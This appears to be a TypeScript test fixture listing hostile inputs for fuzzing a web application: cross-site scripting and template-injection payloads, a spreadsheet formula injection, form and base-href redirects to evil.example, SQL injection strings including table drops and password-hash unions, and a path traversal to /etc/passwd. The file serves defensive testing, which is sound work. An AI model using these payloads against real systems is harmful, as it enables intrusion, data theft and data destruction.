/** What is written into every text: markup in each place where a page could put it. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus=alert(1) y='",
  'javascript:alert(1)//',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands
  '<%= 7*7 %><%~ it %>${7*7}{{7*7}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '</td></tr></table><h1>x</h1><form action=//evil.example>',
  '=cmd|\'/c calc\'!A0"><a href="//evil.example">',
  '</svg><style>*{display:none}</style><base href=//evil.example>',
] as const;

/** What is written into every parameter of an address: for SQL, for paths, for numbers, for signs. */
export const PARAMETERS = [
  "'",
  '"',
  "' or '1'='1",
  "' or 1=1--",
  "'; drop table enterprise;--",
  "') union select 1,2,3--",
  "' union select password_hash from account--",
  '1 or 1=1',
  '1;select 1',
  "x' and (select count(*) from account)>0--",
  'name desc',
  'name;--',
  '(select 1)',
  'case when 1=1 then name else code end',
  '%',
  '_',
  '\\',
  '%%_%\\_',
  '*?[a-z]',
  '[',
  '-1',
  '0',
  '99999999999999999999',
  '1e308',
  'NaN',
  '0x10',
  '../../etc/passwd',
  '<script>',
  '\u0000',
  '\ud800',
] as const;

/** The same length and breaks, with nothing in it that means anything to a page. */
export const harmless = (text: string) => text.replace(/[^\s]/gu, '示');
